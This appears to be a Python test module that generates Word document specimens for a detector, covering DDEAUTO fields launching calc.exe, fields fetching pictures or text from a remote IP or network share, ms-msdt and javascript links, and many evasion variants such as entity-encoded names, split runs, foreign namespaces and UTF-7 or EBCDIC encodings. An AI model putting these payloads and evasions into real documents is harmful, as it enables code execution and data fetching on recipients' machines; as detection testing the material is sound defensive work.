"""Word fields that start programs or fetch something, in every spelling that Word reads."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.attack.package import (
    DECLARED,
    OFFICE,
    PLAIN,
    RELATION,
    Link,
    Parts,
    W,
    docx,
    para,
    run,
    word,
    zipped,
)
from tests.attack.specimen import Specimen, made

BEGIN = run('<w:fldChar w:fldCharType="begin"/>')
MIDDLE = run('<w:fldChar w:fldCharType="separate"/>')
END = run('<w:fldChar w:fldCharType="end"/>')
CALC = "c:\\\\windows\\\\system32\\\\calc.exe"
SHARE = "\\\\\\\\203.0.113.9\\\\a.docx"


def code(text: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def field(inside: str) -> str:
    return para(BEGIN + inside + MIDDLE + run("<w:t>1</w:t>") + END)


def plain(text: str) -> str:
    return field(code(text))


def codes(text: str) -> str:
    """Word's QUOTE field spells a text by its letters' numbers."""
    return " ".join(str(ord(letter)) for letter in text)


CODES = {
    "DDEAUTO": f' DDEAUTO {CALC} "x" ',
    "DDE": f' DDE {CALC} "x" ',
    "small letters": f" ddeauto {CALC} ",
    "mixed letters": f" DdEaUtO {CALC} ",
    "letter by entity": f"&#68;DEAUTO {CALC}",
    "letter by hexadecimal entity": f"D&#x44;EAUTO {CALC}",
    "all letters by entity": "".join(f"&#{ord(letter)};" for letter in "DDEAUTO") + " c",
    "unparsed": f"<![CDATA[DDEAUTO {CALC}]]>",
    "half unparsed": f"DDE<![CDATA[AUTO]]> {CALC}",
    "comment within": f"D<!-- x -->DEAUTO {CALC}",
    "instruction within": f"D<?x y?>DEAUTO {CALC}",
    "tab before": f"\tDDEAUTO\t{CALC}",
    "line between": f"\nDDEAUTO\n{CALC}",
    "picture from elsewhere": ' INCLUDEPICTURE "http://203.0.113.9/a.png" \\d ',
    "picture from a share": f' INCLUDEPICTURE "{SHARE}" ',
    "text from elsewhere": f' INCLUDETEXT "{SHARE}" ',
    "text from elsewhere, old": f' INCLUDE "{SHARE}" ',
    "import": f' IMPORT "{SHARE}" ',
    "link to a workbook": f' LINK Excel.Sheet.12 "{SHARE}" "A1" \\a ',
    "embedded": " EMBED Package ",
    "macro by a button": " MACROBUTTON AutoOpen 点击 ",
    "data base": ' DATABASE \\d "C:\\\\a.mdb" \\c "DSN=x" \\s "select 1" ',
    "other document": f' RD "{SHARE}" ',
    "automatic text": ' AUTOTEXT "x" ',
    "control": " CONTROL Forms.CommandButton.1 ",
    "web control": " HTMLACTIVEX ",
    "add-in": " ADDIN ",
    "printer commands": ' PRINT 27"E" ',
    "link with a script": ' HYPERLINK "javascript:alert(1)" ',
    "link to a program": ' HYPERLINK "file:///c:/windows/system32/calc.exe" ',
    "link to a share": f' HYPERLINK "{SHARE}" ',
    "link to a handler": ' HYPERLINK "ms-msdt:/id PCWDiagnostic" ',
    "a field nobody knows": " FROBNICATE x ",
}  # fmt: skip
_HALVES = [run(f"<w:instrText>{letter}</w:instrText>") for letter in "DDEAUTO"]
BODIES = {
    "split over runs": field("".join(_HALVES) + code(f" {CALC}")),
    "split over paragraphs": para(BEGIN + code("DDE")) + para(code(f"AUTO {CALC}") + MIDDLE + END),
    "split with a revision between": field(
        code("DDE") + f'<w:ins w:id="1" w:author="a">{code("AUTO c")}</w:ins>'),
    "simple field": para(f'<w:fldSimple w:instr="DDEAUTO {CALC}"/>'),
    "simple field, single quotes": para(f"<w:fldSimple w:instr='DDEAUTO {CALC}'/>"),
    "simple field, entity": para(f'<w:fldSimple w:instr="&#x44;DEAUTO {CALC}"/>'),
    "simple field, blanks round the sign": para(f'<w:fldSimple w:instr\n=\n"DDEAUTO {CALC}"/>'),
    "simple field, picture": para('<w:fldSimple w:instr=\'INCLUDEPICTURE "http://203.0.113.9/a"\'/>'),
    "another prefix": f'<x:p xmlns:x="{W}"><x:r><x:fldChar x:fldCharType="begin"/></x:r>'
                      f"<x:r><x:instrText>DDEAUTO {CALC}</x:instrText></x:r></x:p>",
    "no prefix": f'<p xmlns="{W}"><r><instrText>DDEAUTO {CALC}</instrText></r></p>',
    "prefix with a dot": f'<w.x:p xmlns:w.x="{W}"><w.x:fldSimple w.x:instr="DDEAUTO c"/></w.x:p>',
    "strict namespace": '<s:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main">'
                        '<s:r><s:instrText>DDEAUTO c</s:instrText></s:r></s:p>',
    "struck out": field(run(f"<w:delInstrText>DDEAUTO {CALC}</w:delInstrText>")),
    "numbers of the letters": field(code(f"QUOTE {codes('DDEAUTO c')}")),
    "name by an inner field": para(BEGIN + BEGIN + code(f"QUOTE {codes('DDEAUTO')}") + MIDDLE + END
                                   + code(f" {CALC}") + MIDDLE + END),
    "inside a harmless field": para(BEGIN + code("IF 1 = 1 ") + BEGIN + code("DDEAUTO c") + END + END),
    "name by a bookmark": field(code("REF ") + code("x")) + para(BEGIN + BEGIN + code("REF x")
                                                                 + END + code(" c") + END),
    "never ended": para(BEGIN + code(f"DDEAUTO {CALC}")),
    "never begun": para(code(f"DDEAUTO {CALC}")),
    "in a text box": para(run(f"<w:pict><w:txbxContent>{plain('DDEAUTO c')}</w:txbxContent></w:pict>")),
    "in the fallback": para(run(
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<mc:Fallback>{plain('DDEAUTO c')}</mc:Fallback></mc:AlternateContent>")),
    "in a table in a control": "<w:sdt><w:sdtContent><w:tbl><w:tr><w:tc>" + plain("DDEAUTO c")
                               + "</w:tc></w:tr></w:tbl></w:sdtContent></w:sdt>",
    "frame from elsewhere": f'<w:frameset><w:frame><w:sourceFileName r:id="r9" xmlns:r="{RELATION}"/>'
                            "</w:frame></w:frameset>",
}  # fmt: skip
PLACES = {
    "header": ("header1", "hdr", "header"),
    "footer": ("footer1", "ftr", "footer"),
    "footnotes": ("footnotes", "footnotes", "footnotes"),
    "endnotes": ("endnotes", "endnotes", "endnotes"),
    "comments": ("comments", "comments", "comments"),
    "glossary": ("glossary/document", "glossaryDocument", "document.glossary"),
}


def _in_part(name: str, root: str, kind: str) -> Parts:
    return docx(
        linked=(
            Link(
                kind.rsplit(".", maxsplit=1)[-1] + ("Document" if "glossary" in kind else ""),
                f"{name}.xml",
            ),
        ),
        more={f"word/{name}.xml": word(plain(f"DDEAUTO {CALC}"), root, "")},
        typed={f"word/{name}.xml": f"{OFFICE}.wordprocessingml.{kind}+xml"},
    )


def _encoded(encoding: str, declared: str = "", mark: bytes = b"") -> Parts:
    text = word(plain(f"DDEAUTO {CALC}")).decode().partition("\n")[2]
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    return docx(more={"word/document.xml": mark + (head + text).encode(encoding)})


def _utf7() -> Parts:
    body = word(plain("+AEQARABFAEEAVQBUAE8- c")).decode().replace("UTF-8", "UTF-7")
    return docx(more={"word/document.xml": body.encode()})


def _main_elsewhere(name: str, **defaults: str) -> Parts:
    """The document itself under another name: what it is stands in the list of types."""
    from tests.attack.package import PACKAGE, ROOT, links

    core = Link(f"{PACKAGE}/relationships/metadata/core-properties", "docProps/core.xml")
    kind = f"{OFFICE}.wordprocessingml.document.main+xml"
    return docx(
        more={
            ROOT: links(Link("officeDocument", name), core),
            name: word(plain(f"DDEAUTO {CALC}")),
            "word/document.xml": DECLARED + word(PLAIN).partition(b"\n")[2],
        },
        typed={} if defaults else {name: kind},
        defaults=dict.fromkeys(defaults, kind),
    )


ENCODINGS = {
    "UTF-16": partial(_encoded, "utf-16", "UTF-16"),
    "UTF-16 without a mark": partial(_encoded, "utf-16-be", "UTF-16"),
    "UTF-16 undeclared": partial(_encoded, "utf-16-le", "", b"\xff\xfe"),
    "UTF-32": partial(_encoded, "utf-32", "UTF-32"),
    "EBCDIC": partial(_encoded, "cp037", "cp037"),
    "UTF-7": _utf7,
    "UTF-8 with a mark": partial(_encoded, "utf-8", "UTF-8", b"\xef\xbb\xbf"),
    "document without an ending": partial(_main_elsewhere, "word/doc"),
    "document under another ending": partial(_main_elsewhere, "word/doc.bin"),
    "document typed by its ending": partial(_main_elsewhere, "other/a.jpeg", jpeg="x"),
}


def specimens() -> Iterator[Specimen]:
    told = {what: partial(_body, plain(text)) for what, text in CODES.items()}
    yield from made("docx", "field", told)
    yield from made("docx", "field", {what: partial(_body, text) for what, text in BODIES.items()})
    parts = {f"in {what}": partial(_part, *place) for what, place in PLACES.items()}
    yield from made("docx", "field", parts)
    yield from made("docx", "field", {
        f"in {what}": partial(_made, build) for what, build in ENCODINGS.items()
    })  # fmt: skip


def _body(inside: str) -> bytes:
    return zipped(docx(inside))


def _part(name: str, root: str, kind: str) -> bytes:
    return zipped(_in_part(name, root, kind))


def _made(build: partial[Parts]) -> bytes:
    return zipped(build())
